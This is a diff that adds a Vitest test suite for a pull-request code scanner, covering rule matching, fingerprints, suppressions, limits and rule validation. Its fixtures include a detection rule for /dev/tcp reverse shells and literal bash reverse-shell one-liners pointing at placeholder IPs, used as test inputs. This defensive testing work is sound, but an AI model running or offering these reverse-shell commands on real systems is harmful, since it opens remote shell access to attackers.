@@ -1,0 +1,172 @@
+import { describe, expect, it } from 'vitest';
+import { ANALYZERS } from '../../../src/core/analyzers/index.js';
+import { buildCatalog, configureCatalog } from '../../../src/core/rules/catalog.js';
+import { RuleFileError } from '../../../src/core/rules/schema.js';
+import type { ScanData } from '../../../src/core/rules/types.js';
+import { scanChangeSet } from '../../../src/core/scan/engine.js';
+import { changeSetOf } from '../../helpers/changeset.js';
+
+const data: ScanData = { popularNpm: new Map(), popularPypi: new Map() };
+
+const RULES = `
+rules:
+  - id: js.test.eval
+    title: eval call
+    severity: high
+    category: injection
+    cwe: [CWE-95]
+    languages: [javascript, typescript]
+    message: eval runs arbitrary code.
+    fix: Do not use eval.
+    match:
+      ast:
+        rule: { pattern: "eval($X)" }
+    tests:
+      valid: [{ code: "evaluate(x)" }]
+      invalid: [{ code: "eval(x)" }]
+  - id: generic.test.dev-tcp
+    title: reverse shell
+    severity: critical
+    category: backdoor
+    cwe: [CWE-506]
+    message: Opens a reverse shell.
+    match:
+      regex: '/dev/tcp/'
+      regex-not: 'airlock-example'
+    tests:
+      valid: [{ code: "echo hi" }]
+      invalid: [{ code: "bash -i >& /dev/tcp/1.2.3.4/80 0>&1" }]
+  - id: py.test.os-system
+    title: os.system
+    severity: high
+    category: injection
+    cwe: [CWE-78]
+    languages: [python]
+    message: Runs a shell command.
+    match:
+      ast:
+        rule: { pattern: "os.system($X)" }
+    tests:
+      valid: [{ code: "os.path(x)" }]
+      invalid: [{ code: "os.system(x)" }]
+  - id: generic.test.tests-deleted
+    title: test deleted
+    severity: medium
+    category: safety-net
+    cwe: [CWE-693]
+    paths: { include: ["**/*.test.js"] }
+    message: A test file was deleted.
+    match:
+      path: { status: [deleted] }
+    tests:
+      valid: [{ path: a.test.js, code: "x" }]
+      invalid: [{ path: a.test.js, code: "x", status: deleted }]
+`;
+
+const catalog = buildCatalog([{ name: 'rules/test.yml', text: RULES }], [...ANALYZERS]);
+
+describe('scan engine', () => {
+  it('reports AST and regex matches only on added lines', async () => {
+    const result = await scanChangeSet(
+      changeSetOf([
+        { path: 'src/a.js', code: 'eval(old);\nconst x = 1;\neval(input);\n', added: [2, 3] },
+        { path: 'run.sh', code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\necho /dev/tcp/ airlock-example\n' },
+        { path: 'app.py', code: 'import os\nos.system(cmd)\n', added: [2] },
+      ]),
+      { catalog, data },
+    );
+    expect(result.findings.map((f) => [f.ruleId, f.path, f.line])).toEqual([
+      ['py.test.os-system', 'app.py', 2],
+      ['generic.test.dev-tcp', 'run.sh', 1],
+      ['js.test.eval', 'src/a.js', 3],
+    ]);
+    const evalFinding = result.findings.find((f) => f.ruleId === 'js.test.eval')!;
+    expect(evalFinding).toMatchObject({ severity: 'high', cwe: ['CWE-95'], column: 1, snippet: 'eval(input);', fix: { description: 'Do not use eval.' } });
+    expect(result.stats).toMatchObject({ filesScanned: 3, addedLines: 5 });
+  });
+
+  it('keeps fingerprints stable when code moves and distinguishes repeated matches', async () => {
+    const before = await scanChangeSet(changeSetOf([{ path: 'a.js', code: 'eval(x);\neval(x);\n' }]), { catalog, data });
+    const after = await scanChangeSet(changeSetOf([{ path: 'a.js', code: '\n\n// moved\n  eval( x );\neval(x);\n' }]), { catalog, data });
+    const fp = (r: typeof before) => r.findings.map((f) => f.fingerprint);
+    expect(new Set(fp(before)).size).toBe(2);
+    expect(fp(after)).toEqual(fp(before));
+  });
+
+  it('honours suppressions from the base version only, and reports added ones', async () => {
+    const code = '// airlock-ignore js.test.eval -- vetted in 2024\neval(a);\neval(b); // airlock-ignore js.test.eval -- trust me\n';
+    const result = await scanChangeSet(changeSetOf([{ path: 'a.js', code, added: [2, 3] }]), { catalog, data });
+    expect(result.suppressed.map((s) => [s.finding.line, s.reason])).toEqual([[2, 'vetted in 2024']]);
+    expect(result.findings.map((f) => [f.ruleId, f.line])).toEqual([
+      ['airlock.suppression-added', 3],
+      ['js.test.eval', 3],
+    ]);
+  });
+
+  it('lists binary, oversized, unavailable and unreadable files as not reviewed', async () => {
+    const cs = changeSetOf([
+      { path: 'img.png', code: new Uint8Array([0x89, 0x50, 0, 0, 1]) },
+      { path: 'big.js', code: `${'x'.repeat(2000)}\n` },
+      { path: 'huge.js', code: 'eval(x)', unavailable: 'GitHub sent no patch (diff too large)' },
+    ]);
+    cs.files.push({ ...cs.files[1]!, path: 'gone.js', size: null });
+    const result = await scanChangeSet(cs, { catalog, data, limits: { maxFileBytes: 1500 } });
+    expect(result.notReviewed).toEqual([
+      { path: 'img.png', reason: 'binary file' },
+      { path: 'big.js', reason: 'file is 2001 bytes, over the 1500-byte limit' },
+      { path: 'huge.js', reason: 'GitHub sent no patch (diff too large)' },
+      { path: 'gone.js', reason: 'head version could not be read: file missing at head' },
+    ]);
+  });
+
+  it('stops at the time budget and lists every file it did not reach', async () => {
+    let t = 0;
+    const cs = changeSetOf([1, 2, 3].map((i) => ({ path: `f${i}.js`, code: 'eval(x)\n' })));
+    const result = await scanChangeSet(cs, { catalog, data, limits: { timeBudgetMs: 10 }, now: () => (t += 6) });
+    expect(result.notReviewed.map((n) => n.path)).toEqual(['f2.js', 'f3.js']);
+    expect(result.notReviewed[0]!.reason).toMatch(/time budget/);
+  });
+
+  it('fires path rules on deleted files', async () => {
+    const result = await scanChangeSet(changeSetOf([{ path: 'src/a.test.js', code: 'it()', status: 'deleted' }]), { catalog, data });
+    expect(result.findings.map((f) => f.ruleId)).toEqual(['generic.test.tests-deleted']);
+  });
+
+  it('survives hostile input: invalid UTF-8, a 600 KB line, deep nesting', async () => {
+    const deep = `x = ${'['.repeat(50_000)}${']'.repeat(50_000)};\neval(y);\n`;
+    const result = await scanChangeSet(
+      changeSetOf([
+        { path: 'bad.js', code: new Uint8Array([0x65, 0x76, 0x61, 0x6c, 0x28, 0xff, 0xfe, 0x29, 0x0a]), added: [1] },
+        { path: 'long.js', code: `${'a+'.repeat(300_000)}a;\neval(z)\n` },
+        { path: 'deep.js', code: deep },
+      ]),
+      { catalog, data },
+    );
+    expect(result.notReviewed).toEqual([]);
+    expect(result.findings.filter((f) => f.ruleId === 'js.test.eval').map((f) => f.path)).toEqual(['bad.js', 'deep.js', 'long.js']);
+  });
+
+  it('turns rules off and overrides severity from configuration', async () => {
+    const configured = configureCatalog(catalog, { 'js.test.eval': { severity: 'low' }, 'generic.*': 'off' });
+    const result = await scanChangeSet(
+      changeSetOf([{ path: 'a.js', code: 'eval(x)\n' }, { path: 'r.sh', code: 'cat </dev/tcp/h/1\n' }]),
+      { catalog: configured, data },
+    );
+    expect(result.findings.map((f) => [f.ruleId, f.severity])).toEqual([['js.test.eval', 'low']]);
+    expect(() => configureCatalog(catalog, { 'js.test.evl': 'off' })).toThrow(/rules\.js\.test\.evl: no rule has this id/);
+  });
+
+  it('rejects broken rules with a one-line error naming file, rule and field', () => {
+    const broken = RULES.replace("regex: '/dev/tcp/'", "regex: '(?<=x)tcp'");
+    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: broken }], [])).toThrow(RuleFileError);
+    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: broken }], [])).toThrow(/^rules\/bad\.yml: rule generic\.test\.dev-tcp: match\.regex: not a valid RE2 pattern/);
+    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: RULES.replace('severity: critical', 'severity: urgent') }], [])).toThrow(
+      /rules\/bad\.yml: rule generic\.test\.dev-tcp: severity: /,
+    );
+    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: RULES.replace('pattern: "eval($X)"', 'patern: "eval($X)"') }], [])).toThrow(
+      /rule js\.test\.eval: match\.ast \(javascript\)/,
+    );
+    expect(() => buildCatalog([{ name: 'rules/bad.yml', text: 'rules:\n  - id: [unclosed\n' }], [])).toThrow(/rules\/bad\.yml: line \d+: invalid YAML/);
+    expect(() => buildCatalog([{ name: 'a.yml', text: RULES }, { name: 'b.yml', text: RULES }], [])).toThrow(/b\.yml: rule js\.test\.eval: id already defined in a\.yml/);
+  });
+});
